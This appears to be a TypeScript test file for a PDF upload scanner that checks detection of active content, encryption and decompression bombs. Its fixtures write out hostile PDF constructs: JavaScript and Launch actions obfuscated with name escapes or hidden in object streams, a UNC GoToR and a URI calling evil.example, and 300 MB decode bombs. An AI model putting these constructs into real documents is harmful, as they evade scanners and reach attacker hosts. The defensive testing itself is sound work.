import { deflateSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import {
  flateStream,
  hiddenObjectPdf,
  objectStreamPdf,
  pdfFile,
  storedThenDeflated,
} from "../../tests/support/pdf-files.ts";
import {
  annotationBombPdf,
  contentBombPdf,
  scannerStressPdf,
} from "../../tests/support/pdf-bombs.ts";
import { scanPdf } from "./pdf-scan.ts";

const clean = { active: false, encrypted: false, unreadable: false, tooLarge: false };

/** A stream object with raw (uncompressed) data and the given dictionary. */
const rawStream = (dictionary: string, data: string) =>
  Buffer.from(`<< ${dictionary} /Length ${data.length} >>\nstream\n${data}\nendstream`, "latin1");

describe("scanPdf", () => {
  it("passes a plain print PDF", async () => {
    expect(await scanPdf(pdfFile())).toEqual(clean);
  });

  it("finds JavaScript run on opening", async () => {
    const pdf = pdfFile({
      catalogExtra: "/OpenAction 4 0 R",
      extra: ["<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"],
    });
    expect((await scanPdf(pdf)).active).toBe(true);
  });

  it("finds a Launch action written with #xx escapes", async () => {
    const pdf = pdfFile({
      catalogExtra: "/OpenAction 4 0 R",
      extra: ["<< /S /L#61unch /F (calc.exe) >>"],
    });
    expect((await scanPdf(pdf)).active).toBe(true);
  });

  it("finds an action packed in a compressed object stream", async () => {
    const hidden = "5 0 << /S /JS#41 /JS (app.alert(1)) >>";
    const pdf = pdfFile({
      catalogExtra: "/OpenAction 5 0 R",
      extra: [flateStream("/Type /ObjStm /N 1 /First 4", hidden)],
    });
    expect((await scanPdf(pdf)).active).toBe(true);
  });

  it("finds an action packed in an uncompressed object stream", async () => {
    const pdf = pdfFile({
      catalogExtra: "/OpenAction 5 0 R",
      extra: [rawStream("/Type /ObjStm /N 1 /First 4", "5 0 << /S /X /JS (app.alert(1)) >>")],
    });
    expect((await scanPdf(pdf)).active).toBe(true);
  });

  it("is not fooled by a stream keyword inside a string", async () => {
    const pdf = pdfFile({
      catalogExtra: "/OpenAction 4 0 R",
      extra: ["<< /T (>>stream\n) /S /Laun#63h /F (calc.exe) /U (endstream) >>"],
    });
    expect((await scanPdf(pdf)).active).toBe(true);
  });

  it("finds an action hidden inside what claims to be compressed stream data", async () => {
    // A reader finds objects by offset, so one can sit inside another stream's bytes.
    const pdf = pdfFile({
      extra: [rawStream("/Filter /FlateDecode", "9 0 obj << /S /Launch /F (calc.exe) >> endobj")],
    });
    expect((await scanPdf(pdf)).active).toBe(true);
  });

  it("refuses to vouch for object streams it cannot unpack", async () => {
    const predicted = Buffer.concat([
      Buffer.from(
        "<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >> /Length 20 >>\nstream\n",
        "latin1",
      ),
      deflateSync(Buffer.from("5 0 << /S /URI >>")),
      Buffer.from("\nendstream", "latin1"),
    ]);
    expect((await scanPdf(pdfFile({ extra: [predicted] }))).unreadable).toBe(true);
    const bomb = flateStream("/Type /ObjStm /N 1 /First 4", "0".repeat(70 * 1024 * 1024));
    expect((await scanPdf(pdfFile({ extra: [bomb] }))).unreadable).toBe(true);
  });

  it("does not read short names inside image or page data", async () => {
    // Compressed bytes spell "/JS" by chance about once in 20 MB; a content stream may too.
    const image = storedThenDeflated(Buffer.from("\u00ff/JS /XFA (\u0001", "latin1"), 9);
    expect(image.includes("/JS /XFA")).toBe(true);
    const pdf = pdfFile({
      extra: [
        Buffer.concat([
          Buffer.from(`<< /Filter /FlateDecode /Length ${image.length} >>\nstream\n`, "latin1"),
          image,
          Buffer.from("\nendstream", "latin1"),
        ]),
      ],
    });
    expect(await scanPdf(pdf)).toEqual(clean);
  });

  it("stays linear on hostile input: long digit runs and many stream keywords", async () => {
    const hostile = scannerStressPdf();
    // Streams without a /Length cannot be vouched for. The quadratic version
    // took minutes on this input and so ran past the test's time limit; how
    // fast the scan is, `npm run bench:upload` measures ("scanner stress"): no test times it.
    expect((await scanPdf(hostile)).active).toBe(false);
  });

  it("reports an encrypted PDF", async () => {
    const pdf = pdfFile({
      trailerExtra: "/Encrypt 4 0 R",
      extra: ["<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 >>"],
    });
    expect((await scanPdf(pdf)).encrypted).toBe(true);
  });

  describe("issue 16: what a scan over hand-parsed bytes used to miss", () => {
    /** Packs `action` as object 6 behind object 5, a string reading "endstream" kept verbatim. */
    const behindEndstream = (pageExtra: string, action: string) =>
      objectStreamPdf({
        pageExtra,
        packed: ["(endstream)", action],
        compress: (content) => storedThenDeflated(content, content.indexOf(action)),
      });

    it("reads an object stream to its /Length when its compressed data holds `endstream`", async () => {
      const pdf = behindEndstream(
        "/AA << /O 6 0 R >>",
        "<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
      );
      const dataStart = pdf.indexOf("stream\n") + "stream\n".length;
      expect(pdf.indexOf("endstream", dataStart)).toBeLessThan(pdf.indexOf("/Type /XRef"));
      expect(pdf.includes("JavaScript")).toBe(false); // the action is compressed
      expect((await scanPdf(pdf)).active).toBe(true);
    });

    it("finds a Launch action and a JavaScript link packed the same way", async () => {
      const launch = behindEndstream("/AA << /O 6 0 R >>", "<< /S /Launch /F (calc.exe) >>");
      const link = behindEndstream(
        "/Annots [6 0 R]",
        "<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /JavaScript /JS (app.alert\\(1\\)) >> >>",
      );
      expect((await scanPdf(launch)).active).toBe(true);
      expect((await scanPdf(link)).active).toBe(true);
    });

    it("reads an object stream that does not say /Type /ObjStm", async () => {
      const pdf = objectStreamPdf({
        pageExtra: "/AA << /O 5 0 R >>",
        packed: ["<< /S /JavaScript /JS (app.alert\\(1\\)) >>"],
        dictionary: "",
      });
      expect(pdf.includes("ObjStm")).toBe(false);
      expect((await scanPdf(pdf)).active).toBe(true);
    });

    it("reads each packed object at its offset, whatever a comment before it seems to hide", async () => {
      const pdf = objectStreamPdf({
        catalogExtra: "/OpenAction 5 0 R",
        packed: ["<< /S /Launch /F (\\\\evil\\share\\x.exe) >>"],
        behindComments: true,
      });
      expect((await scanPdf(pdf)).active).toBe(true);
    });

    it("finds /XFA in an object hidden inside another stream's data", async () => {
      const pdf = hiddenObjectPdf({
        catalogExtra: "/AcroForm 5 0 R",
        hidden: "<< /Fields [] /XFA (<xdp:xdp/>) >>",
      });
      expect((await scanPdf(pdf)).active).toBe(true);
    });

    it("finds actions that reach out: GoToR to a UNC path, GoToE, a page-open URI, Named Print", async () => {
      const actions = [
        {
          catalogExtra:
            "/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit] >>",
        },
        { catalogExtra: "/OpenAction << /S /GoToE /T << /R /C /N (page.html) >> >>" },
        { pageExtra: "/AA << /O << /S /URI /URI (https://evil.example/opened) >> >>" },
        { catalogExtra: "/OpenAction << /S /Named /N /Print >>" },
      ];
      for (const action of actions) expect((await scanPdf(pdfFile(action))).active).toBe(true);
    });

    it("fails closed on compressed data that does not inflate to its end", async () => {
      const data = deflateSync(Buffer.from("q 1 0 0 1 0 0 cm Q ".repeat(400)));
      const truncated = data.subarray(0, data.length - 40);
      const stream = Buffer.concat([
        Buffer.from(`<< /Filter /FlateDecode /Length ${truncated.length} >>\nstream\n`, "latin1"),
        truncated,
        Buffer.from("\nendstream", "latin1"),
      ]);
      expect((await scanPdf(pdfFile({ extra: [stream] }))).unreadable).toBe(true);
    });

    it("fails closed on a /Length that does not end at endstream, or cannot be resolved", async () => {
      const wrong = Buffer.from("<< /Length 3 >>\nstream\nq Q q Q\nendstream", "latin1");
      const missing = Buffer.from("<< /Length 9 0 R >>\nstream\nq Q\nendstream", "latin1");
      expect((await scanPdf(pdfFile({ extra: [wrong] }))).unreadable).toBe(true);
      expect((await scanPdf(pdfFile({ extra: [missing] }))).unreadable).toBe(true);
    });

    it("resolves a /Length given as a reference, as pdfTeX and Cairo write it", async () => {
      const data = deflateSync(Buffer.from("q 0 0 1 rg 0 0 99 99 re f Q"));
      const stream = Buffer.concat([
        Buffer.from("<< /Filter /FlateDecode /Length 5 0 R >>\nstream\n", "latin1"),
        data,
        Buffer.from("\nendstream", "latin1"),
      ]);
      const pdf = pdfFile({ extra: [stream, String(data.length)] });
      expect(await scanPdf(pdf)).toEqual(clean);
    });

    it("accepts text that only mentions /JavaScript, in a string or in page content", async () => {
      const content = "BT /F1 24 Tf 72 72 Td (Press /JavaScript /JS /Launch /AA) Tj ET";
      const pdf = pdfFile({
        catalogExtra: "/Lang (en /JavaScript)",
        pageExtra: "/Contents [4 0 R 5 0 R]",
        extra: [rawStream("", content), flateStream("", content)],
      });
      expect(await scanPdf(pdf)).toEqual(clean);
    });
  });

  describe("issue 32: what decodes to more than any print needs", () => {
    it("counts both FlateDecode layers of an annotation's appearance, and refuses past the budget", async () => {
      // 300 MB behind two layers: the old scan measured the outer layer only (a few hundred KB).
      const scan = await scanPdf(annotationBombPdf(300_000_000));
      expect(scan).toEqual({ ...clean, tooLarge: true });
    });

    it("refuses page content that unpacks past the budget through two layers", async () => {
      expect((await scanPdf(contentBombPdf(300_000_000))).tooLarge).toBe(true);
    });

    it("passes the same file when what it unpacks to is ordinary", async () => {
      expect(await scanPdf(contentBombPdf(1_000_000))).toEqual(clean);
    });

    it("counts an image's pixels as its dictionary declares them", async () => {
      const huge = rawStream(
        "/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode",
        "not really a JPEG",
      );
      expect((await scanPdf(pdfFile({ extra: [huge] }))).tooLarge).toBe(true);
    });
  });
});
